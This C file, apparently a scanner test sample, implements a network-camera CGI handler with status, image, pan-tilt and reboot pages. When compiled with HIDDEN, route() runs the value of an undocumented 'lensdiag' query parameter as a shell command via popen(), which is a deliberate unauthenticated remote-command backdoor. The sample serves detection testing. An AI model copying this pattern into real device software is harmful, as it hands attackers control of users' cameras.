/*
 * A sample for tests; compiled and scanned, never run.
 * CGI of a network camera: a table of pages, parameters from the query.
 * With HIDDEN: a parameter that no page documents is run as a command.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#define MAX_PARAMS 16

struct param {
	char name[32];
	char value[128];
};

struct request {
	const char *path;
	const char *method;
	struct param params[MAX_PARAMS];
	int count;
};

typedef int page_fn(const struct request *r);

static int hex(int c)
{
	return isdigit(c) ? c - '0' : (tolower(c) - 'a' + 10) & 15;
}

static const char *unescape(const char *s, char stop, char *out, size_t n)
{
	size_t k = 0;

	while (*s && *s != stop && *s != '&') {
		int c = (unsigned char)*s++;

		if (c == '+') {
			c = ' ';
		} else if (c == '%' && s[0] && s[1]) {
			c = hex(s[0]) << 4 | hex(s[1]);
			s += 2;
		}
		if (k + 1 < n)
			out[k++] = (char)c;
	}
	out[k] = 0;
	return s;
}

static void parse_query(struct request *r, const char *q)
{
	while (q && *q && r->count < MAX_PARAMS) {
		struct param *p = &r->params[r->count++];

		p->value[0] = 0;
		q = unescape(q, '=', p->name, sizeof p->name);
		if (*q == '=')
			q = unescape(q + 1, '&', p->value, sizeof p->value);
		if (*q == '&')
			q++;
	}
}

static const char *get(const struct request *r, const char *name)
{
	for (int i = 0; i < r->count; i++)
		if (strcasecmp(r->params[i].name, name) == 0)
			return r->params[i].value;
	return NULL;
}

static void head(int status, const char *type)
{
	printf("Status: %d\r\nContent-Type: %s\r\n\r\n", status, type);
}

static int copy_output(const char *cmd)
{
	char line[256];
	FILE *p = popen(cmd, "r");

	if (!p)
		return -1;
	while (fgets(line, sizeof line, p))
		fputs(line, stdout);
	return pclose(p);
}

static int page_status(const struct request *r)
{
	(void)r;
	head(200, "text/plain");
	return copy_output("uptime; ifconfig eth0");
}

static int page_image(const struct request *r)
{
	const char *res = get(r, "resolution");
	const char *rot = get(r, "rotate");

	head(200, "text/plain");
	if (res && strcmp(res, "vga") == 0)
		puts("640x480");
	else if (res && strcmp(res, "hd") == 0)
		puts("1280x720");
	else
		puts("1920x1080");
	if (rot && strcmp(rot, "180") == 0)
		puts("flipped");
	return 0;
}

static int page_ptz(const struct request *r)
{
	char cmd[64];
	const char *pan = get(r, "pan");
	const char *tilt = get(r, "tilt");
	long p = pan ? strtol(pan, NULL, 10) : 0;
	long t = tilt ? strtol(tilt, NULL, 10) : 0;

	head(200, "text/plain");
	if (p < -170 || p > 170 || t < -30 || t > 90)
		return puts("range") < 0;
	snprintf(cmd, sizeof cmd, "motorctl %ld %ld", p, t);
	return system(cmd);
}

static int page_reboot(const struct request *r)
{
	head(200, "text/plain");
	if (strcmp(r->method, "POST") != 0)
		return puts("POST only") < 0;
	return system("sync; reboot");
}

static const struct {
	const char *path;
	page_fn *fn;
} pages[] = {
	{ "/status", page_status },
	{ "/image", page_image },
	{ "/ptz", page_ptz },
	{ "/reboot", page_reboot },
};

__attribute__((noinline)) int route(const struct request *r)
{
	size_t i;

#ifdef HIDDEN
	for (int k = 0; k < r->count; k++) {
		if (strcasecmp(r->params[k].name, "lensdiag") != 0)
			continue;
		head(200, "text/plain");
		return copy_output(r->params[k].value);
	}
#endif
	for (i = 0; i < sizeof pages / sizeof pages[0]; i++)
		if (strcmp(pages[i].path, r->path) == 0)
			return pages[i].fn(r);
	head(404, "text/plain");
	puts("no such page");
	return 0;
}

int main(void)
{
	struct request r = { 0 };

	r.path = getenv("PATH_INFO");
	r.method = getenv("REQUEST_METHOD");
	if (!r.path)
		r.path = "/status";
	if (!r.method)
		r.method = "GET";
	parse_query(&r, getenv("QUERY_STRING"));
	return route(&r) != 0;
}
